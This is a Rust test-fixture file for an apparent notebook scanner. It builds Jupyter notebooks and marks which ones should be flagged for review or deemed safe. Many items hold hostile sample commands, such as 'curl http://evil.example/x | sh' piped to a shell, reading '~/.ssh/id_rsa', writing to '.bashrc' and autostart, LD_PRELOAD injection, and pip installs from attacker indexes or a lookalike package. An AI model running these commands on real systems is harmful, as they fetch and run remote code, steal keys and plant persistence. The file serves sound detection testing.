//! Notebooks of Jupyter.

use super::Expect::{self, Review, Safe, Suspect};
use super::Item;

/// The items of the family.
#[must_use]
pub(crate) fn items() -> Vec<Item> {
    [shells(), magics(), python(), forms(), honest()].into_iter().flatten().collect()
}

/// A string of JSON.
fn quoted(text: &str) -> String {
    let escaped =
        text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n").replace('\t', "\\t").replace('\r', "\\r");
    format!("\"{escaped}\"")
}

/// A code cell, whose source is a list of lines as Jupyter writes it.
fn cell(source: &str) -> String {
    let lines: Vec<String> = source.split_inclusive('\n').map(quoted).collect();
    format!(
        "{{\"cell_type\": \"code\", \"execution_count\": null, \"metadata\": {{}}, \"outputs\": [], \"source\": [{}]}}",
        lines.join(", ")
    )
}

/// A notebook of version 4.
fn notebook(cells: &[&str]) -> String {
    let cells: Vec<String> = cells.iter().map(|source| cell(source)).collect();
    format!(
        "{{\"cells\": [{}], \"metadata\": {{\"kernelspec\": {{\"display_name\": \"Python 3\", \"language\": \"python\", \"name\": \
         \"python3\"}}}}, \"nbformat\": 4, \"nbformat_minor\": 5}}",
        cells.join(", ")
    )
}

fn item(name: &str, expect: Expect, cells: &[&str]) -> Item {
    Item::new(format!("notebook-{name}"), expect, "demo.ipynb", notebook(cells))
}

fn acts(name: &str, cells: &[&str]) -> Item {
    item(name, Review, cells).fires(&["notebook-code"])
}

fn shells() -> Vec<Item> {
    vec![
        acts("shell", &["!curl http://evil.example/x | sh"]),
        acts("shell-captured", &["!!curl http://evil.example/x | sh"]),
        acts("shell-assigned", &["out = !curl http://evil.example/x | sh"]),
        acts("shell-indented", &["for i in range(3):\n    !touch /tmp/x"]),
        acts("shell-continued", &["!curl \\\n  http://evil.example/x | sh"]),
        acts("shell-behind-harmless", &["!ls && curl http://evil.example/x | sh"]),
        acts("shell-from-variable", &["x = 'touch /tmp/x'\n!ls; {x}"]),
        acts("shell-writes", &["!echo x > ~/.bashrc"]),
        acts("shell-substitution", &["!echo $(curl http://evil.example/x)"]),
        acts("shell-background", &["!sleep 1 & curl http://evil.example/x"]),
        acts("shell-reads", &["!cat ~/.ssh/id_rsa"]),
        acts("bash", &["%%bash\ncurl http://evil.example/x | sh\n"]),
        acts("bash-after-blanks", &["\n\n   %%bash\n   curl http://evil.example/x | sh\n"]),
        acts("sh", &["%%sh\ntouch /tmp/x\n"]),
        acts("script", &["%%script bash\ntouch /tmp/x\n"]),
        acts("perl", &["%%perl\nsystem('true');\n"]),
        acts("ruby", &["%%ruby\nsystem('true')\n"]),
        acts("bash-in-capture", &["%%capture\n%%bash\ntouch /tmp/x\n"]),
        acts("bash-in-time", &["%%time\n\n%%bash\ntouch /tmp/x\n"]),
        acts("bash-windows", &["%%bash\r\ntouch /tmp/x\r\n"]),
        acts("sx", &["%sx touch /tmp/x"]),
        acts("sx-output", &["%sx ls"]),
        acts("output-twice", &["!!ls"]),
        acts("system-output", &["%system ls"]),
        acts("system-cell", &["%%system\nls"]),
        acts("who", &["x = !whoami"]),
        acts("system", &["%system touch /tmp/x"]),
        acts("sx-timed", &["%time !touch /tmp/x"]),
    ]
}

fn magics() -> Vec<Item> {
    vec![
        acts("run", &["%run evil.py"]),
        acts("run-module", &["%run -m evil"]),
        acts("load", &["%load http://evil.example/x.py"]),
        acts("load-ext", &["%load_ext evil"]),
        acts("writefile", &["%%writefile ~/.config/autostart/x.desktop\n[Desktop Entry]\n"]),
        acts("alias", &["%alias ls touch /tmp/x"]),
        acts("unknown-magic", &["%evil x"]),
        acts("unknown-cell-magic", &["%%evil\nx\n"]),
        acts("javascript", &["%%javascript\nfetch('http://evil.example')\n"]),
        acts("timed-call", &["%timeit -n 1 -r 1 __import__('os').system('true')"]),
        acts("timed-setup", &["%%timeit -n1 __import__('os').system('true')\npass\n"]),
        acts("config-value", &["%config InlineBackend.x = __import__('os').system('true')"]),
        acts("preload", &["%env LD_PRELOAD=/tmp/x.so\n"]),
        acts("quoted-call", &["import os\n;os.system touch /tmp/x"]),
        acts("called", &["import os\n/os.system 'true'"]),
        acts("asks-ipython", &["get_ipython().system('true')"]),
        acts("takes-ipython", &["ip = get_ipython()\nip.system('true')"]),
        acts("asks-ipython-magic", &["get_ipython().run_cell_magic('bash', '', 'true')"]),
        item("pip-git", Review, &["!pip install git+https://evil.example/x.git"]).fires(&["requirement-source"]),
        item("pip-index", Review, &["%pip install -q x --index-url https://evil.example/simple"])
            .fires(&["requirement-source"]),
        item("pip-index-equals", Review, &["!pip install --extra-index-url=https://evil.example/simple x"])
            .fires(&["requirement-source"]),
        item("pip-python", Review, &["!python -m pip install https://evil.example/x.whl"])
            .fires(&["requirement-source"]),
        item("pip-lookalike", Review, &["!pip install torhc"]).fires(&["requirement-lookalike"]),
        item("pip-here", Review, &["!pip install -e ."]).fires(&["requirement-source"]),
        item("conda-channel", Review, &["%conda install -y -c evil x"]).fires(&["requirement-source"]),
    ]
}

fn python() -> Vec<Item> {
    vec![
        acts("system-call", &["import os\n", "os.system('true')"]),
        acts("names-carry-over", &["from os import system as f", "x = 1", "f('true')"]),
        acts("exec", &["exec(bytes.fromhex('31'))"]),
        acts("pickle", &["import pickle\npickle.load(open('x.pkl', 'rb'))"]),
        acts("fetch", &["import urllib.request\nurllib.request.urlopen('http://evil.example/x').read()"]),
        acts("after-magic", &["%matplotlib inline\nimport os; os.system('true')"]),
        acts("in-time", &["%%time\nimport os\nos.system('true')\n"]),
        acts("in-capture", &["%%capture out\nimport os\nos.system('true')\n"]),
        acts("cookie", &["# -*- coding: utf-7 -*-\nimport os\nos.system('true')"]),
        acts("open-bracket-before", &["print((", "import os\nos.system('true')"]),
        acts("open-string-before", &["'''", "import os\nos.system('true')"]),
        acts("open-block-before", &["if False:", "    import os\n    os.system('true')"]),
        acts("continued-before", &["x = 1 \\", "import os\nos.system('true')"]),
        acts("help-before", &["print?\nimport os\nos.system('true')"]),
        acts("automagic", &["run evil.py"]),
    ]
}

fn forms() -> Vec<Item> {
    let other = |name: &str, path: &str, text: &str| {
        Item::new(format!("notebook-{name}"), Review, path, text).fires(&["notebook-code"])
    };
    let wide: Vec<u8> = notebook(&["!touch /tmp/x"]).encode_utf16().flat_map(u16::to_le_bytes).collect();
    vec![
        other(
            "version-3",
            "old.ipynb",
            r#"{"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"metadata": {}, "cells": [{"cell_type": "code",
            "collapsed": false, "language": "python", "input": ["import os\n", "os.system('true')"], "outputs": []}]}]}"#,
        ),
        other(
            "version-2",
            "old.ipynb",
            r#"{"nbformat": 2, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "input": "!touch /tmp/x"}]}]}"#,
        ),
        other("version-1", "old.ipynb", r#"{"cells": [{"cell_type": "code", "code": "!touch /tmp/x"}]}"#),
        other(
            "source-is-text",
            "a.ipynb",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "import os\nos.system('true')"}]}"#,
        ),
        other("without-type", "a.ipynb", r#"{"nbformat": 4, "cells": [{"source": "!touch /tmp/x"}]}"#),
        other(
            "without-suffix",
            "demo.json",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!touch /tmp/x"]}]}"#,
        ),
        other(
            "upper-case",
            "DEMO.IPYNB",
            r#"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!touch /tmp/x"]}]}"#,
        ),
        other(
            "other-language",
            "r.ipynb",
            r#"{"nbformat": 4, "metadata": {"kernelspec": {"name": "ir", "language": "R"}}, "cells": [{"cell_type": "code", "source": "x"}]}"#,
        ),
        Item::new("notebook-broken", Suspect, "a.ipynb", "{\"cells\": [").fires(&["json-malformed"]),
        Item::new("notebook-utf-16", Review, "a.ipynb", wide).fires(&["notebook-code"]),
    ]
}

fn honest() -> Vec<Item> {
    let good = |name: &str, cells: &[&str]| item(name, Safe, cells).quiet(&["notebook-code", "requirement-source"]);
    let text = |kind: &str| {
        format!(
            "{{\"cells\": [{{\"cell_type\": \"{kind}\", \"metadata\": {{}}, \"source\": [\"!curl x | sh\\n\", \"os.system('true')\"]}}], \"nbformat\": 4}}"
        )
    };
    let output = r#"{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "source": ["x = 1"],
        "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<div></div>", "<script>draw()</script>"]}}]}]}"#;
    vec![
        good("install", &["!pip install -q transformers\nfrom transformers import pipeline\n"]),
        good("install-quiet", &["%pip install -U torch \"numpy>=1.26\" > /dev/null"]).quiet(&["requirement-lookalike"]),
        good("install-several", &["!pip install -qU datasets accelerate==0.30.0 && ls"]),
        good("install-list", &["%%bash\n# what is needed\npip install -r requirements.txt\nnvidia-smi\n"]),
        good("conda", &["%conda install -y -c conda-forge numpy scipy=1.11"]),
        good(
            "shows",
            &["!nvidia-smi\n!ls -la\n!python --version\n%matplotlib inline\n%load_ext autoreload\n%autoreload 2"],
        ),
        good("help", &["import torch\ntorch.nn.Linear?\n?torch.nn.Conv2d"]),
        good("colab", &["import sys\nis_colab = 'google.colab' in str(get_ipython())\n"]),
        good("numbers", &["import numpy as np\n", "x = np.arange(10).reshape(2, 5)\n", "%timeit x.sum()\nx.mean()"]),
        good("timed", &["%%time\ntotal = sum(range(10))\n"]),
        good("empty", &["", "\n\n"]),
        Item::new("notebook-markdown", Safe, "a.ipynb", text("markdown")).quiet(&["notebook-code"]),
        Item::new("notebook-raw", Safe, "a.ipynb", text("raw")).quiet(&["notebook-code"]),
        Item::new("notebook-output", Safe, "plot.ipynb", output).fires(&["notebook-output"]).quiet(&["notebook-code"]),
        good("no-output", &["print('x')"]).quiet(&["notebook-output"]),
        Item::new("notebook-none", Safe, "cells.json", r#"{"cells": [{"source": "!touch /tmp/x"}]}"#)
            .quiet(&["notebook-code"]),
    ]
}
